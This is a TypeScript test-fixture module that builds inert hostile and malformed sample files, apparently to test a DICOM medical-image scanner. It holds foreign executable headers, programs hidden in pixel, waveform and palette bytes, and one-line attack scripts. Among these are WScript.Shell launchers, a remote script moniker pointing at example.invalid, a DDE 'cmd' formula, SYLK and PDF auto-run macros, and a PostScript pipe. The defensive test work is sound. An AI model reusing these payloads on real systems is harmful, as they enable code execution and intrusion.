/**
 * THREATS A2, A3, A5, A6 and A9 to A11, written by hand: formats that other machines run, unpack, mount or open, and room in tables, signals and icons. All of it inert.
 */
import { acme, barePE, icon, inDocument, interleaved, jpeg, jpegImage, object, record, residue, within } from './byhand.ts';
import { encapsulate, header, itemHeader, undefinedLength, withElements, type Element } from './encode.ts';
import { joined, jpegParts, jpeg2000Parts, segment } from './frames.ts';
import * as inert from './inert.ts';
import { make } from './make.ts';
import { grey16, identity, smallCT, sopClasses } from './objects.ts';
import { noise } from './private.ts';
import { clean, disarmed, held, malformed, malicious, type Expected, type Recipe } from './recipe.ts';

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');
const hex = (digits: string): Buffer => Buffer.from(digits.replaceAll(' ', ''), 'hex');
/** A header of a format and what could be its content. */
const found = (name: string, why: string, expected: Expected, head: Uint8Array): Recipe => record(name, why, expected, () => within(Buffer.concat([head, residue(300)])));
const script = (name: string, why: string, text: string): Recipe => found(name, why, held, bytes(text));

const elfOf = (machine: number): Buffer => {
  const program = Buffer.concat([inert.elf(64, 1), Buffer.alloc(200)]);
  program.fill(0xa5, 4, 16);
  program.writeUInt16LE(machine, 18);
  program.writeUInt32LE(0, 20);
  return program;
};

/** As uuencode writes them: 45 bytes in a line, of six bits each from a blank on. */
function uuencoded(data: Uint8Array): string {
  const lines: string[] = [];
  for (let from = 0; from < data.length; from += 45) {
    const line = data.subarray(from, from + 45);
    const bits = [...line].map((byte) => byte.toString(2).padStart(8, '0')).join('');
    lines.push(String.fromCharCode(32 + line.length) + (bits.match(/.{1,6}/g) ?? []).map((six) => String.fromCharCode(Number.parseInt(six.padEnd(6, '0'), 2) || 64).replace(/[^@]/, (sign) => String.fromCharCode(sign.charCodeAt(0) + 32)).replace('@', '`')).join(''));
  }
  return `begin 644 a.exe\n${lines.join('\n')}\n\`\nend\n`;
}
const quotedPrintable = (data: Uint8Array): string => [...data].map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('').replaceAll(/.{72}/g, '$&=\r\n');
const program = (): Buffer => Buffer.concat([barePE(), Buffer.alloc(600)]);

function ecgOf(name: string, threat: string, why: string, expected: Expected, bits: number, data: Uint8Array, room = 16): Recipe {
  return object(name, threat, why, expected, () => [['5400,0100', 'SQ', [[
    ['003A,0005', 'US', 1], ['003A,0010', 'UL', 4000], ['003A,001A', 'DS', '500'], ['003A,0200', 'SQ', [[['003A,021A', 'US', bits]]]], ['5400,1004', 'US', room], ['5400,1006', 'CS', room > 16 ? 'SL' : 'SS'], ['5400,1010', 'OW', data],
  ]]]]);
}
/** 64 by 64 pixels of 16 bits. */
function iconOf(pixels: Uint8Array, stored: number): Element {
  return ['0088,0200', 'SQ', [withElements(icon(pixels) as Element[], ...grey16(64, 64), ['0028,0101', 'US', stored], ['0028,0102', 'US', stored - 1], ['0028,0103', 'US', 0])]];
}
/** Red, green and blue of 8 bits, with `upper` in the upper bytes of the words that they lie in. */
function paletteOf(upper: Uint8Array): Element[] {
  return [['0028,0004', 'CS', 'PALETTE COLOR'], ...[1, 2, 3].flatMap((color): Element[] => [[`0028,110${color}`, 'US', [upper.length, 0, 8]], [`0028,120${color}`, 'OW', interleaved(upper)]])];
}
/** `inside` in the bytes of words above the lowest one. */
const above = (inside: Uint8Array, width: number): Buffer => Buffer.from(Uint8Array.from({ length: (inside.length / (width - 1)) * width }, (_, at) => (at % width === 0 ? at & 0xff : inside[Math.floor(at / width) * (width - 1) + (at % width) - 1]!)));
const upperBytes = (length: number): Buffer => Buffer.concat([barePE(), Buffer.alloc(length)]).subarray(0, length);
/** Fragments where an element of another kind has them. */
function withFragments(name: string, why: string, vr: string): Recipe {
  const fragments = Buffer.concat([header('0009,1001', vr, undefinedLength), itemHeader('FFFE,E000', 0), itemHeader('FFFE,E000', 4000), residue(4000), itemHeader('FFFE,E0DD', 0)]);
  return make({ name, threat: 'A9', why, expected: held, elements: () => smallCT(name).flatMap((element): (Element | Uint8Array)[] => (element[0] === '0010,0010' ? [acme, fragments, element] : [element])) });
}
const many = (count: number, one: (index: number) => Uint8Array): Buffer => Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));

export const formatsBenign: readonly Recipe[] = [
  ecgOf('waveform-twelve', 'benign', 'A waveform of twelve bits whose sign is repeated in the upper ones.', clean, 12, Buffer.from(Int16Array.from({ length: 4000 }, (_, index) => ((index * 37) % 4096) - 2048).buffer)),
  object('icon-twelve', 'benign', 'An icon of sixteen bits of which twelve count.', clean, () => [iconOf(Buffer.from(Uint16Array.from({ length: 4096 }, (_, index) => index).buffer), 12)]),
  object('palette-zeros', 'benign', 'A palette of eight bits, one entry in a word.', clean, () => paletteOf(Buffer.alloc(256))),
  object('names-long', 'benign', 'A name of a physician and a code that are longer than they may be.', clean, () => [['0008,0090', 'PN', 'Doe^Jane of the department of radiology '.repeat(5).trim()], ['0008,1010', 'SH', 'STATION NUMBER SEVENTEEN']]),
  jpegImage('jpeg-tables-twice', 'benign', 'Tables that are defined twice.', clean, () => joined(jpegParts({ rows: 32, columns: 32 }), { dqt: [many(4, () => segment(0xffdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 16)]))), new Uint8Array()] })),
];

export const formatsHostile: readonly Recipe[] = [
  // Programs of other machines
  found('private-pyc', 'Compiled Python of 3.12.', malicious, hex('cb0d0d0a 00000000 00000000 00000000 e3 00000000 00000000 00000000 03000000 00000000')),
  found('private-lua-bytecode', 'Compiled Lua of 5.4.', malicious, hex('1b4c7561 54 00 19930d0a1a0a 040808 7856000000000000')),
  record('private-luajit', 'Compiled LuaJIT, at the beginning of a value.', malicious, () => Buffer.concat([hex('1b4c4a 02 02 0c00 0203 0002'), residue(1600)])),
  found('private-beam', 'Compiled Erlang.', malicious, bytes('FOR1\0\0\x02\0BEAMAtU8\0\0\0\x20')),
  found('private-llvm', 'Bitcode of LLVM.', malicious, hex('4243c0de 35140000 05000000 620c3024')),
  found('private-applescript', 'A compiled AppleScript.', malicious, bytes('FasdUAS 1.101.10\x0e\0\0\0\x04')),
  found('private-java-early', 'A Java class of version 45 with a minor version of its own: every virtual machine takes it.', malicious, hex('cafebabe 1234 002d 0010 0a00030007')),
  found('private-elf-ppc', 'A Linux program for POWER with an identification that only the loader takes.', malicious, elfOf(0x15)),
  found('private-elf-loongarch', 'The same for LoongArch.', malicious, elfOf(0x102)),
  found('private-flat', 'A flat program of Linux without memory management.', malicious, bytes('bFLT\0\0\0\x04\0\0\0\x40\0\0\x10\0')),
  record('private-winhelp', 'A WinHelp file, whose macros run when it is opened.', held, () => Buffer.concat([hex('3f5f0300 10000000 ffffffff 40060000'), residue(1600)])),
  // Scripts and files that something opens
  script('private-vbs-split', 'A script of Windows whose words are put together when it runs.', 'Set s = CreateObject("WSc" & "ript.Sh" & "ell")\r\ns.Run "ca" & "lc"\r\n'),
  script('private-js-split', 'The same in JScript.', 'var s = new ActiveXObject("WSc" + "ript.Sh" + "ell");\r\n'),
  script('private-moniker', 'A script of Windows that fetches another.', 'GetObject("script:https://example.invalid/x.sct")\r\n'),
  script('private-console', 'A console of Windows with a task in it.', '<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI">\r\n'),
  script('private-jnlp', 'A Java program to be fetched and started.', '<jnlp spec="1.0+" codebase="http://example.invalid/" href="x.jnlp">\r\n'),
  script('private-mof', 'A subscription of the Windows management that starts a command.', 'instance of CommandLineEventConsumer as $C\r\n{ Name = "x"; CommandLineTemplate = "calc"; };\r\n'),
  script('private-sylk', 'A SYLK table with a macro that runs when it is opened.', 'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;EEXEC("calc")\r\n'),
  script('private-dde', 'A formula of a table that starts a program.', '=1+cmd|\'/C calc\'!A0\r\n'),
  script('private-query', 'A web query of Excel.', 'WEB\r\n1\r\nhttps://example.invalid/x\r\n'),
  script('private-profile', 'A configuration profile of macOS.', '<plist version="1.0"><dict><key>PayloadContent</key><array/><key>PayloadType</key><string>Configuration</string></dict></plist>'),
  script('private-postscript', 'PostScript without the words of Adobe, which starts a program.', '%!\n(%pipe%id) (w) file\nshowpage\n'),
  script('private-printer', 'A job for a printer that writes to its disk.', '\x1b%-12345X@PJL FSDOWNLOAD FORMAT:BINARY SIZE=4 NAME="0:/x"\r\n'),
  found('private-pdf-headerless', 'The objects of a PDF document without its header: readers mend it.', held, bytes('1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\ntrailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n')),
  // Containers
  found('private-squashfs', 'A squashfs image.', held, hex('68737173 05000000 00000000 00000200 01000000 0100 1100 c000 0100 04000000')),
  found('private-lzop', 'An lzop file.', held, hex('894c5a4f000d0a1a0a 1040 20a0 0940 01 05 03000001')),
  found('private-szdd', 'What expand of Windows unpacks.', held, hex('535a444488f02733 41 65 00100000')),
  found('private-xar', 'A macOS package.', held, hex('78617221 001c 0001 0000000000000400 0000000000001000 00000001')),
  found('private-vdi', 'A disk of VirtualBox.', held, bytes('<<< Oracle VM VirtualBox Disk Image >>>\n' + '\0'.repeat(24) + '\x7f\x10\xda\xbe\x01\0\x01\0')),
  record('private-compress', 'A program of compress, at the beginning of a value.', held, () => Buffer.concat([hex('1f9d90'), residue(1600)])),
  record('private-lz4-legacy', 'A frame of LZ4 as Linux kernels have it, at the beginning of a value.', held, () => Buffer.concat([hex('02214c18 00040000'), residue(1600)])),
  record('private-zstd-legacy', 'A frame of an early zstd, at the beginning of a value.', held, () => Buffer.concat([hex('27b52ffd'), residue(1600)])),
  found('private-arj', 'An ARJ archive.', held, hex('60ea 2900 1e 0b 01 00 10 00 02 00 00000000 00000000 00000000 00000000 0000 0000 0000')),
  found('private-ar', 'A library of ar with a program in it, packed.', held, bytes('!<arch>\na.o/            0           0     0     644     600       `\n')),
  // Alphabets
  record('private-uuencode', 'A program as uuencode writes it.', held, () => bytes(`${protocol()}${uuencoded(program())}`)),
  record('private-quoted', 'A program as quoted-printable text.', malicious, () => bytes(quotedPrintable(program()))),
  // Places
  ecgOf('waveform-bits', 'A9', 'A program in the upper bytes of samples of a waveform, of which eight bits count.', malicious, 8, interleaved(upperBytes(4000))),
  ecgOf('waveform-bits-32', 'A9', 'A program in three bytes of four of a waveform, of which eight bits count.', malicious, 8, above(upperBytes(12_000), 4), 32),
  object('pixels-24-bit', 'A9', 'Eight bits of each pixel of 24 count.', malformed, () => [['0028,0100', 'US', 24], ['0028,0101', 'US', 8], ['0028,0102', 'US', 7], ['7FE0,0010', 'OW', residue(64 * 64 * 3)]]),
  object('pixels-12-bit', 'A9', 'Eight bits of each pixel of twelve count.', malformed, () => [['0028,0100', 'US', 12], ['0028,0101', 'US', 8], ['0028,0102', 'US', 7], ['7FE0,0010', 'OW', residue(6144)]]),
  object('icon-bits', 'A9', 'A program in the upper bytes of an icon.', malicious, () => [iconOf(interleaved(upperBytes(4096)), 8)]),
  object('palette-bytes', 'A9', 'A program in the upper bytes of a palette of 8 bits.', malicious, () => paletteOf(upperBytes(4096))),
  object('code-string-long', 'A9', 'Nine thousand characters as one code.', malformed, () => [['0018,0022', 'CS', residue(9000)]]),
  object('short-string-long', 'A9', 'Nine thousand characters as a name of a station.', malformed, () => [['0008,1010', 'SH', residue(9000)]]),
  object('title-long', 'A9', 'Nine thousand characters as a title of an application.', malformed, () => [['0008,0054', 'AE', residue(9000)]]),
  object('name-long', 'A9', 'Thirty thousand bytes as the name of a physician.', malformed, () => [['0008,0090', 'PN', residue(30_000)]]),
  object('string-long', 'A9', 'Thirty thousand bytes as the name of an institution.', malformed, () => [['0008,0080', 'LO', residue(30_000)]]),
  withFragments('private-fragments', 'Fragments in a private element of undefined length.', 'OB'),
  withFragments('private-unknown-fragments', 'Fragments in an unknown element of undefined length.', 'UN'),
  jpegImage('private-frames', 'A9', 'Fragments of no codestream as the pixels of a private Item.', held, () => jpeg(), [acme, ['0009,1002', 'SQ', [[...(icon(new Uint8Array()).slice(0, -1) as Element[]), encapsulate([residue(30_000)])]]]]),
  object('command-group', 'A9', 'An element of a command in a Data Set.', held, () => [['0000,0100', 'UN', residue(3000)]]),
  // Codestreams
  jpegImage('jpeg-tables-again', 'A10', 'A thousand tables of quantisation, of which each is replaced by the next.', malformed, () => joined(jpegParts({ rows: 32, columns: 32 }), { dqt: [many(1000, (index) => segment(0xffdb, Buffer.concat([Buffer.from([0]), noise(64, index).map((byte) => byte | 1)]))), new Uint8Array()] })),
  jpegImage('jpeg-restarts-again', 'A10', 'Two thousand restart intervals, of which each is replaced by the next.', malformed, () => joined(jpegParts({ rows: 32, columns: 32 }), { dqt: [many(2000, (index) => segment(0xffdd, noise(2, index))), segment(0xffdd, Buffer.from([0, 0]))] })),
  jpegImage('jpeg-2000-registration', 'A10', 'A table of where components lie, in JPEG 2000, much longer than its components.', malformed, () => joined(jpeg2000Parts({ rows: 32, columns: 32 }), { qcd: [new Uint8Array(), segment(0xff63, residue(30_000))] }), [], '1.2.840.10008.1.2.4.90'),
  jpegImage('jpeg-2000-again', 'A10', 'A thousand quantisations of a component, of which each is replaced by the next.', malformed, () => joined(jpeg2000Parts({ rows: 32, columns: 32 }), { qcd: [new Uint8Array(), many(1000, (index) => segment(0xff5d, Buffer.concat([Buffer.from([0, 0x40]), noise(7, index)])))] }), [], '1.2.840.10008.1.2.4.90'),
  // Documents
  inDocument('document-unknown-kind', 'Noise as a document of a kind that nobody registered.', 'application/x-thing', () => noise(4000, 61)),
  inDocument('document-octets', 'A compiled Lua program as a document of bytes.', 'application/octet-stream', () => Buffer.concat([hex('1b4c7561 54 00 19930d0a1a0a 040808'), residue(900)])),
  inDocument('document-icon', 'An icon of Windows as a document of a picture.', 'image/x-icon', () => Buffer.concat([hex('00000100 0100 2020 0000 0100 2000 a8100000 16000000'), residue(4264)])),
  inDocument('document-svg-image', 'A drawing with a picture that is fetched.', 'image/svg+xml', () => bytes('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://example.invalid/x.png"/></svg>')),
  inDocument('document-svg-use', 'A drawing with a part of another one.', 'image/svg+xml', () => bytes('<svg xmlns="http://www.w3.org/2000/svg"><use href="x.svg#a"/></svg>')),
  inDocument('document-svg-style', 'A drawing whose style is fetched.', 'image/svg+xml', () => bytes('<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://example.invalid/x.css);</style></svg>')),
  make({ name: 'document-class', threat: 'A11', why: 'A Lua program as a CDA document that says it is a PDF.', expected: held, elements: () => withElements(identity('document-class', sopClasses.encapsulatedPDF, 'DOC'), ['0008,0064', 'CS', 'WSD'], ['0042,0010', 'ST', 'Report'], ['0042,0011', 'OB', Buffer.concat([hex('1b4c7561 54 00 19930d0a1a0a 040808'), residue(900)])], ['0042,0012', 'LO', 'application/pdf']) }),
  // The start of the file
  make({ name: 'preamble-pyc', threat: 'A1', why: 'The file begins as compiled Python does, which Python starts by its first bytes.', expected: malicious, overAssociation: clean, elements: () => smallCT('preamble-pyc'), preamble: () => hex('cb0d0d0a 00000000 00000000 00000000 e3 00000000') }),
  ...([['bmp', bytes('BM\x36\x04\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0')], ['gif', bytes('GIF89a\x01\0\x01\0\x80\0\0')], ['webp', bytes('RIFF\x40\x10\0\0WEBPVP8 ')], ['mp4', bytes('\0\0\0\x20ftypisom\0\0\x02\0')], ['postscript', bytes('%!PS\n%%BoundingBox: 0 0 1 1\n')]] as const)
    .map(([kind, head]): Recipe => make({ name: `preamble-${kind}`, threat: 'A5', why: `The file begins as ${kind} does.`, expected: disarmed('preamble'), overAssociation: clean, elements: () => smallCT(`preamble-${kind}`), preamble: () => head })),
];

function protocol(): string {
  return 'set protocol "head"\n'.repeat(20);
}
